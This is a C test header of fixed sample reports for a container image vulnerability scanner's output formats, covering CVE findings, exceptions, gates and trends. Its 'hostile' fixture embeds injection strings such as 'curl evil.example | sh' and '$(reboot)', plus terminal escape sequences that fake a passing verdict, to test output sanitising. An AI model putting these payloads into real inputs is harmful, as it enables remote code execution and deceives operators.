/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Fixed reports for the tests of output formats: the same bytes on every machine, built by hand, so
 * that a format is tested without reading an image.
 */
#pragma once

#include "judge/scheme.h"
#include "judge/plan.h"
#include "model/report.h"

static inline sym sample_sym(struct report *r, const char *z)
{
	return sym_of(r->syms, str_of(z));
}

static inline struct digest sample_digest(unsigned char seed)
{
	struct digest d = { .kind = DIGEST_SHA256 };
	for (unsigned i = 0; i < 32; i++)
		d.bytes[i] = (uint8_t)(seed * 7u + i * 13u);
	return d;
}

static inline void sample_layer(struct report *r, const char *created_by, uint64_t entries,
				uint64_t bytes)
{
	struct image *im = &r->image;
	struct layer *l = VEC_PUSH(r->arena, &im->layers);
	uint32_t n = (uint32_t)im->layers.n;
	l->blob = str_printf(r->arena, "blobs/%u", n);
	l->media_type = STR("application/vnd.oci.image.layer.v1.tar+gzip");
	l->digest = sample_digest((unsigned char)(n * 3));
	l->diff_id = sample_digest((unsigned char)(n * 3 + 1));
	l->size = bytes / 3;
	l->history = (uint32_t)im->history.n;
	struct history *h = VEC_PUSH(r->arena, &im->history);
	h->created_by = str_of(created_by);
	h->created = STR("2026-01-12T08:00:00Z");
	struct layer_facts *facts = VEC_PUSH(r->arena, &r->layers);
	facts->entries = entries;
	facts->bytes = bytes;
}

static inline uint32_t sample_package(struct report *r, enum package_kind kind, const char *name,
				      const char *version, const char *source,
				      const char *source_version, unsigned layer)
{
	struct package *p = VEC_PUSH(r->arena, &r->packages);
	p->kind = (uint8_t)kind;
	p->name = sample_sym(r, name);
	p->version = sample_sym(r, version);
	p->arch = sample_sym(r, kind == PACKAGE_APK ? "x86_64" : "amd64");
	p->source_name = sample_sym(r, source);
	p->source_version = sample_sym(r, source_version);
	p->licence = sample_sym(r, "MIT");
	p->location =
		sample_sym(r, kind == PACKAGE_APK ? "lib/apk/db/installed" : "var/lib/dpkg/status");
	p->files =
		sym_of(r->syms, str_printf(r->arena, "usr/bin/%s\nusr/share/doc/%s\n", name, name));
	p->file_count = 2;
	p->layer = (uint16_t)layer;
	p->flags = PACKAGE_LIVE;
	return (uint32_t)(r->packages.n - 1);
}

/* What judge/match.c does with the order of the ecosystem. */
static inline void sample_rank(struct report *r, struct vulnerability *v)
{
	v->fixed_rank = 1;
	for (size_t i = 0; i < r->findings.n; i++) {
		struct vulnerability *other = r->findings.p[i].vulnerability;
		if (!other || other == v || !str_eq(other->installed, v->installed))
			continue;
		int order = scheme_find("deb")->compare(other->fixed, v->fixed);
		if (order <= 0 && other->fixed_rank + (order < 0) > v->fixed_rank)
			v->fixed_rank = other->fixed_rank + (order < 0);
		else if (order > 0)
			other->fixed_rank += 2;
	}
}

static inline struct finding *sample_vulnerability(struct report *r, enum finding_place place,
						   enum severity severity, const char *id,
						   const char *title, uint32_t package,
						   const char *fixed)
{
	struct finding *f = report_add(r, FINDING_VULNERABILITY);
	f->place = f->own_place = place;
	f->effect = place == PLACE_ACT_NOW ? GATE_BLOCK : GATE_NOTHING;
	f->severity = severity;
	f->id = str_of(id);
	f->title = str_of(title);
	f->package = package;
	f->layer = r->packages.p[package].layer;
	f->path = sym_str(r->syms, r->packages.p[package].location);
	struct vulnerability *v = arena_alloc(r->arena, sizeof(*v));
	f->vulnerability = v;
	*VEC_PUSH(r->arena, &v->ids) = f->id;
	v->installed = sym_str(r->syms, r->packages.p[package].source_version);
	v->fixed = str_of(fixed);
	sample_rank(r, v);
	v->status = v->fixed.n ? ADVISORY_FIXED : ADVISORY_AFFECTED;
	v->severity_source = STR("debian");
	v->cvss_score = -1;
	*VEC_PUSH(r->arena, &v->feeds) = STR("debian-tracker");
	return f;
}

static inline void sample_exploited(struct finding *f, const char *since, bool ransomware,
				    double epss)
{
	f->vulnerability->kev_added = str_of(since);
	f->vulnerability->kev_ransomware = ransomware;
	f->vulnerability->has_epss = true;
	f->vulnerability->epss = epss;
	f->vulnerability->epss_percentile = 0.99;
}

static inline struct report *sample_base(const char *reference)
{
	struct report *r = report_new();
	r->reference = str_of(reference);
	r->source_kind = STR("docker-archive");
	r->image.name = str_of(reference);
	r->image.config = sample_digest(200);
	r->image.platform = (struct platform){ STR("linux"), STR("amd64"), STR("") };
	r->image.created = STR("2026-01-12T08:00:03Z");
	r->created = STR("2026-03-02T10:00:00Z");
	r->sandboxed = true;
	r->database = (struct database_info){ .path = STR("/var/lib/seaworthy/advisories.db"),
					      .built = STR("2026-03-01T23:10:00Z"),
					      .advisories = 312345,
					      .has_release = true };
	r->database.digest =
		STR("sha256:"
		    "4355a46b19d348dc2f57c046f8ef63d4538ebb936000f3c9ee954a27460dd865");
	return r;
}

static inline void sample_debian(struct report *r)
{
	r->os = (struct os_release){ .id = STR("debian"),
				     .version_id = STR("12"),
				     .codename = STR("bookworm"),
				     .pretty = STR("Debian GNU/Linux 12 (bookworm)"),
				     .location = STR("usr/lib/os-release"),
				     .ecosystem = ECOSYSTEM_DEBIAN,
				     .release = STR("12"),
				     .eol = STR("2028-06-30") };
	sample_layer(
		r,
		"/bin/sh -c #(nop) ADD file:9d0c1ae2c1f7d3b8fbd5f2f4c1d7bb1c6a8e0a1b2c3d4e5f60718"
		"293a4b5c6d7 in / ",
		3412, 74911744);
	sample_layer(r,
		     "RUN /bin/sh -c set -eux; \tapt-get update && apt-get install -y "
		     "--no-install-recommends openssl curl ca-certificates # buildkit",
		     880, 12003328);
	sample_layer(r, "COPY payment /usr/local/bin/payment # buildkit", 1, 20971520);
}

/* The ordinary bad day. */
static inline struct report *sample_payment(void)
{
	struct report *r = sample_base("registry.example/payment:1.2");
	sample_debian(r);
	uint32_t lzma =
		sample_package(r, PACKAGE_DEB, "liblzma5", "5.6.0-0.2", "xz-utils", "5.6.0-0.2", 0);
	uint32_t ssl = sample_package(r, PACKAGE_DEB, "libssl3", "3.0.11-1~deb12u1", "openssl",
				      "3.0.11-1~deb12u1", 0);
	uint32_t openssl = sample_package(r, PACKAGE_DEB, "openssl", "3.0.11-1~deb12u1", "openssl",
					  "3.0.11-1~deb12u1", 1);
	uint32_t curl = sample_package(r, PACKAGE_DEB, "curl", "7.88.1-10+deb12u4", "curl",
				       "7.88.1-10+deb12u4", 1);
	uint32_t xml = sample_package(r, PACKAGE_DEB, "libxml2", "2.9.14+dfsg-1.3~deb12u1",
				      "libxml2", "2.9.14+dfsg-1.3~deb12u1", 1);
	struct finding *f = sample_vulnerability(
		r, PLACE_ACT_NOW, SEVERITY_CRITICAL, "CVE-2024-3094",
		"malicious code in the release tarballs of xz opens a back door in sshd", lzma,
		"5.6.1+really5.4.5-1");
	sample_exploited(f, "2024-03-29", true, 0.853);
	*VEC_PUSH(r->arena, &f->vulnerability->ids) = STR("GHSA-rxwq-x6h5-x525");
	*VEC_PUSH(r->arena, &f->vulnerability->cwe) = STR("CWE-506");
	*VEC_PUSH(r->arena, &f->vulnerability->references) =
		STR("https://www.openwall.com/lists/oss-security/2024/03/29/4");
	f->vulnerability->cvss_score = 10.0;
	f->vulnerability->cvss_vector = STR("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H");
	f->vulnerability->matched_by = STR("source xz-utils 5.6.0-0.2 in [5.5.1alpha, "
					   "5.6.1+really5.4.5-1) of debian:12");
	f->vulnerability->published = STR("2024-03-29");
	static const struct {
		const char *id, *title, *fixed;
		enum severity severity;
	} holes[] = {
		{ "CVE-2024-5535", "SSL_select_next_proto reads beyond its buffer",
		  "3.0.15-1~deb12u1", SEVERITY_CRITICAL },
		{ "CVE-2024-4741", "use after free in SSL_free_buffers", "3.0.15-1~deb12u1",
		  SEVERITY_HIGH },
		{ "CVE-2024-6119", "denial of service in the check of X.509 names",
		  "3.0.14-1~deb12u2", SEVERITY_HIGH },
		{ "CVE-2023-5363", "wrong lengths of key and initialisation vector",
		  "3.0.11-1~deb12u2", SEVERITY_HIGH },
		{ "CVE-2025-15467", "stack overflow in CMS parsing", "3.0.18-1~deb12u2",
		  SEVERITY_HIGH },
	};
	for (size_t i = 0; i < ARRAY_LEN(holes); i++) {
		f = sample_vulnerability(r, PLACE_ACT_NOW, holes[i].severity, holes[i].id,
					 holes[i].title, ssl, holes[i].fixed);
		*VEC_PUSH(r->arena, &f->vulnerability->packages) = ssl;
		*VEC_PUSH(r->arena, &f->vulnerability->packages) = openssl;
	}
	f = sample_vulnerability(r, PLACE_ACT_NOW, SEVERITY_HIGH, "CVE-2023-38545",
				 "SOCKS5 heap buffer overflow", curl, "7.88.1-10+deb12u5");
	f->vulnerability->has_epss = true;
	f->vulnerability->epss = 0.26;
	for (unsigned i = 0; i < 3; i++)
		sample_vulnerability(r, PLACE_NO_FIX, SEVERITY_HIGH,
				     str_cstr(r->arena, str_printf(r->arena, "CVE-2025-490%u", i)),
				     "type confusion in the Schematron validator", xml, "");
	f = sample_vulnerability(r, PLACE_MINOR, SEVERITY_LOW, "CVE-2024-2379",
				 "QUIC certificate check bypass with wolfSSL", curl, "");
	f = sample_vulnerability(r, PLACE_DEFERRED, SEVERITY_MEDIUM, "CVE-2024-9681",
				 "HSTS subdomain overwrites the parent's cache entry", curl, "");
	f->vulnerability->status = ADVISORY_DEFERRED;
	f = sample_vulnerability(r, PLACE_INVESTIGATING, SEVERITY_UNKNOWN, "CVE-2026-0001",
				 "not described yet", xml, "");
	f->vulnerability->status = ADVISORY_UNDER_INVESTIGATION;
	r->verdict = VERDICT_NOT_SEAWORTHY;
	r->gate_failed = true;
	r->verdict_reason = STR("7 findings to act on");
	return r;
}

static inline struct report *sample_clean(void)
{
	struct report *r = sample_base("payment:2.0");
	r->source_kind = STR("oci-layout");
	r->image.manifest = sample_digest(100);
	r->os = (struct os_release){ .id = STR("alpine"),
				     .version_id = STR("3.22.1"),
				     .pretty = STR("Alpine Linux v3.22"),
				     .location = STR("etc/os-release"),
				     .ecosystem = ECOSYSTEM_ALPINE,
				     .release = STR("3.22"),
				     .eol = STR("2027-05-01") };
	sample_layer(r, "ADD alpine-minirootfs-3.22.1-x86_64.tar.gz / # buildkit", 512, 8500000);
	sample_package(r, PACKAGE_APK, "busybox", "1.37.0-r18", "busybox", "1.37.0-r18", 0);
	r->verdict = VERDICT_SEAWORTHY;
	return r;
}

/* Nothing bad was seen, but not everything could be read; old system, no database, no sandbox. */
static inline struct report *sample_incomplete(void)
{
	struct report *r = sample_base("legacy.tar");
	sample_debian(r);
	r->os.version_id = r->os.release = STR("9");
	r->os.pretty = STR("Debian GNU/Linux 9 (stretch)");
	r->os.codename = STR("stretch");
	r->os.eol = STR("2022-06-30");
	r->database = (struct database_info){ .headline_only = true, .advisories = 131 };
	struct finding *f = report_add(r, FINDING_MISCONFIGURATION);
	f->place = f->own_place = PLACE_NOTE;
	f->severity = SEVERITY_HIGH;
	f->id = STR("os-eol");
	f->title = STR("Debian 9 gets no security updates since 2022-06-30");
	f->message = STR("new vulnerabilities are neither fixed nor listed for it any more");
	f->fix = STR("move to a maintained release: FROM debian:12-slim");
	struct fault why = { 0 };
	fault_set(&why, E_TRUNCATED, "var/lib/dpkg/status: line 88: the file ends inside a record");
	f = report_gap(r, why.code, "the package database is cut off", &why);
	f->path = STR("var/lib/dpkg/status");
	f->layer = 1;
	fault_set(&why, E_UNSUPPORTED, "compressed with xz");
	f = report_gap(r, why.code, "a layer could not be read", &why);
	f->layer = 2;
	r->layers.p[2] = (struct layer_facts){ .gaps = 1 };
	r->sandboxed = false;
	r->sandbox_note = STR("--no-sandbox was given");
	r->verdict = VERDICT_INCOMPLETE;
	r->verdict_reason = STR("2 gaps");
	return r;
}

/* Names that try to move the cursor, to reverse the writing, to hide, and to reach a shell. */
static inline struct report *sample_hostile(void)
{
	struct report *r = sample_base("\033]0;owned\007evil\033[2J:\342\200\256txt.exe");
	sample_debian(r);
	r->os.pretty = STR("Debian\r\n\033[32mSEAWORTHY\033[0m all is well");
	uint32_t p = sample_package(r, PACKAGE_DEB, "libssl3; curl evil.example | sh", "1\0332J",
				    "open\342\200\213ssl", "1\302\233 31m", 0);
	sample_vulnerability(r, PLACE_ACT_NOW, SEVERITY_CRITICAL, "CVE-2024-1\n\nSEAWORTHY",
			     "a \376\377 b \355\240\200 c\360\235\205\263 d\314\201\314\201\314\201"
			     "\314\201\314\201\314\201\314\201\314\201",
			     p, "$(reboot)");
	struct fault why = { 0 };
	fault_set(&why, E_CORRUPT, "usr/\302\205x\033[1A: bad");
	struct finding *f = report_gap(r, why.code, "a\tb\fc\177", &why);
	f->path = STR("tmp/\342\201\246isolate\303\050");
	f->layer = 1;
	r->image.history.p[0].created_by = STR("RUN |1 T=\033[31m /bin/sh -c echo \033[8mhidden");
	r->verdict = VERDICT_NOT_SEAWORTHY;
	return r;
}

static inline struct report *sample_chinese(void)
{
	struct report *r = sample_base("支付服务:正式版-二零二六年三月第一次发布");
	sample_debian(r);
	r->os.pretty = STR("银河麒麟桌面操作系统 V10 (SP1)");
	uint32_t p = sample_package(r, PACKAGE_DEB, "支付网关", "1.0-1", "支付网关", "1.0-1", 2);
	sample_vulnerability(
		r, PLACE_ACT_NOW, SEVERITY_HIGH, "CVE-2025-0001",
		"支付网关在解析交易报文时存在堆缓冲区溢出,远程攻击者可在未认证的情况下执行任意代码,"
		"并且可以读取其他商户的交易记录",
		p, "1.0-2");
	r->image.history.p[2].created_by = STR("COPY 支付网关 /usr/local/bin/ # buildkit");
	r->verdict = VERDICT_NOT_SEAWORTHY;
	return r;
}

/* 5,000 findings of 500 packages. */
static inline struct report *sample_many(void)
{
	struct report *r = sample_base("fat:latest");
	sample_debian(r);
	for (unsigned i = 0; i < 500; i++) {
		const char *name = str_cstr(r->arena, str_printf(r->arena, "library-%03u", i));
		uint32_t p = sample_package(r, PACKAGE_DEB, name, "1.0-1", name, "1.0-1", i % 3);
		for (unsigned k = 0; k < 10; k++) {
			const char *id = str_cstr(
				r->arena, str_printf(r->arena, "CVE-2025-%u", 10000 + i * 10 + k));
			enum finding_place place = k == 0 && i < 60 ? PLACE_ACT_NOW
						   : k < 4	    ? PLACE_NO_FIX
								    : PLACE_MINOR;
			sample_vulnerability(
				r, place, place == PLACE_MINOR ? SEVERITY_LOW : SEVERITY_HIGH, id,
				"one of many", p, place == PLACE_ACT_NOW ? "1.0-2" : "");
		}
	}
	r->verdict = VERDICT_NOT_SEAWORTHY;
	return r;
}

/* A known base, a gate of a team, exceptions in all states, a baseline, a past, and a plan. */
static inline void sample_exception(struct report *r, enum exception_state state,
				    const char *source, const char *id, const char *until,
				    const char *why)
{
	struct exception_note *n = VEC_PUSH(r->arena, &r->exceptions);
	n->by = IGNORED_BY_FILE;
	n->state = state;
	n->source = str_of(source);
	*VEC_PUSH(r->arena, &n->ids) = str_of(id);
	n->until = str_of(until);
	n->why = str_of(why);
	n->findings = state == EXCEPTION_USED;
}

static inline void sample_decide(struct finding *f, enum gate_effect effect, const char *clause)
{
	f->effect = effect;
	f->clause = str_of(clause);
	f->first_seen = STR("2026-10-02");
	f->is_new = effect == GATE_BLOCK;
}

static inline struct report *sample_decided(void)
{
	struct report *r = sample_base("registry.example/payment:1.3");
	sample_debian(r);
	r->base = (struct base_info){ .name = STR("debian:12"),
				      .created = STR("2025-01-13"),
				      .origin = STR("built-in"),
				      .layers = 1,
				      .steps = 1 };
	uint32_t ssl =
		sample_package(r, PACKAGE_DEB, "libssl3", "3.0.11-1", "openssl", "3.0.11-1", 0);
	uint32_t xml = sample_package(r, PACKAGE_DEB, "libxml2", "2.9.14", "libxml2", "2.9.14", 0);
	uint32_t curl = sample_package(r, PACKAGE_DEB, "curl", "7.88.1-10", "curl", "7.88.1-10", 1);
	sample_decide(sample_vulnerability(r, PLACE_ACT_NOW, SEVERITY_CRITICAL, "CVE-2025-10001",
					   "one in the base", ssl, "3.0.18-1"),
		      GATE_BLOCK, "fixable-serious");
	sample_decide(sample_vulnerability(r, PLACE_ACT_NOW, SEVERITY_HIGH, "CVE-2025-10002",
					   "another in the base", xml, "2.9.15"),
		      GATE_BLOCK, "fixable-serious");
	sample_decide(sample_vulnerability(r, PLACE_ACT_NOW, SEVERITY_HIGH, "CVE-2025-10003",
					   "one on top", curl, "7.88.1-10+deb12u8"),
		      GATE_BLOCK, "fixable-serious");
	struct finding *f =
		sample_vulnerability(r, PLACE_ALLOWED, SEVERITY_HIGH, "CVE-2025-10004",
				     "the gate lets it pass", curl, "7.88.1-10+deb12u8");
	f->own_place = PLACE_ACT_NOW;
	sample_decide(f, GATE_ALLOW, "young");
	f = sample_vulnerability(r, PLACE_IGNORED, SEVERITY_CRITICAL, "CVE-2025-10005",
				 "not reachable", xml, "2.9.15");
	f->own_place = PLACE_ACT_NOW;
	f->ignored = arena_alloc(r->arena, sizeof(*f->ignored));
	*f->ignored = (struct ignored){ .by = IGNORED_BY_FILE,
					.source = STR(".trivyignore.yaml:3"),
					.owner = STR("payments team"),
					.reason = STR("the parser is never given foreign input"),
					.until = STR("2026-12-31") };
	sample_exception(r, EXCEPTION_USED, ".trivyignore.yaml:3", "CVE-2025-10005", "2026-12-31",
			 "libxml2 has it");
	r->exceptions.p[0].expires_soon = true;
	sample_exception(r, EXCEPTION_EXPIRED, ".trivyignore:7", "CVE-2025-10001", "2026-10-31",
			 "its last day was 2026-10-31");
	sample_exception(r, EXCEPTION_UNUSED, ".trivyignore:9", "CVE-2020-1", "",
			 "no finding has this name");
	sample_exception(r, EXCEPTION_REFUSED, "policy.yaml:20:5", "CVE-2025-10002", "",
			 "the policy demands a reason");
	r->gate = (struct gate_info){
		.name = STR("ci"),
		.policy = STR(".seaworthy.yaml"),
		.digest = STR("sha256:"
			      "0000000000000000000000000000000000000000000000000000000000000007"),
		.decided_by = STR("fixable-serious")
	};
	*VEC_PUSH(r->arena, &r->gate.clauses) =
		(struct gate_clause){ STR("young"), STR(".seaworthy.yaml:8:7"), GATE_ALLOW, 1 };
	*VEC_PUSH(r->arena, &r->gate.clauses) =
		(struct gate_clause){ STR("fixable-serious"), STR(".seaworthy.yaml:10:7"),
				      GATE_BLOCK, 3 };
	r->baseline = STR("last-week.json");
	for (unsigned i = 0; i < 3; i++)
		*VEC_PUSH(r->arena, &r->trend) = (struct trend_point){
			.time = str_printf(r->arena, "2026-11-%02uT06:00:00Z", 1 + 7 * i),
			.verdict = i ? VERDICT_NOT_SEAWORTHY : VERDICT_SEAWORTHY,
			.blocking = i,
			.by_severity = { [SEVERITY_HIGH] = i, [SEVERITY_LOW] = 2 },
			.fixable = i,
		};
	r->verdict = VERDICT_NOT_SEAWORTHY;
	r->gate_failed = true;
	r->verdict_reason = STR("gate ci: 3 findings are blocked by fixable-serious");
	report_sort(r);
	plan_make(r);
	return r;
}

static inline struct report *sample_empty(void)
{
	return report_new();
}

struct sample {
	const char *name;
	struct report *(*make)(void);
};

static const struct sample samples[] = {
	{ "payment", sample_payment },	     { "clean", sample_clean },
	{ "incomplete", sample_incomplete }, { "hostile", sample_hostile },
	{ "chinese", sample_chinese },	     { "many", sample_many },
	{ "empty", sample_empty },	     { "decided", sample_decided },
};
